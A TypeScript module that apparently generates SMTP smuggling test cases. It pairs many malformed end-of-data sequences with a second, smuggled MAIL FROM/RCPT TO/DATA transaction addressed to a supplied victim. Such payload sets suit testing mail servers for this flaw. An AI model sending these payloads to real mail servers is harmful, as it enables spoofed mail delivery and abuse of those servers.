/** Everything that some server somewhere took for the end of a message, with a whole transaction behind it (A1). */

const ENDS = ['', '\r', '\n', '\r\n', '\n\r', '\r\r\n', '\r\n\n', '\n\n', '\0', '\r\0', '\0\n', '\r\0\n', ' \r\n', '\u0085', '\u2028'];

const END = '\r\n.\r\n';

export interface Variant {
  readonly name: string;
  /** What stands before the final CRLF.CRLF; the message's only end. */
  readonly body: Buffer;
  readonly nul: boolean;
  /** No NUL, and CRLF the only line end. */
  readonly proper: boolean;
}

/** All of them but those that hold the true end. `victim` is whom the smuggled message is for. */
export function variants(victim: string): Variant[] {
  const smuggled = `MAIL FROM:<evil@x.example>\r\nRCPT TO:<${victim}>\r\nDATA\r\nSubject: smuggled\r\n\r\nx\r\n`;
  const made: Variant[] = [];
  for (const before of ENDS) {
    for (const after of ENDS) {
      const end = `${before}.${after}`;
      if (end.includes(END)) continue;
      const text = `Subject: one\r\n\r\nbody${end}${smuggled}`;
      const nul = text.includes('\0');
      made.push({ name: JSON.stringify(end), body: Buffer.from(text), nul, proper: !nul && !/\r(?!\n)|(?<!\r)\n/.test(text) });
    }
  }
  return made;
}
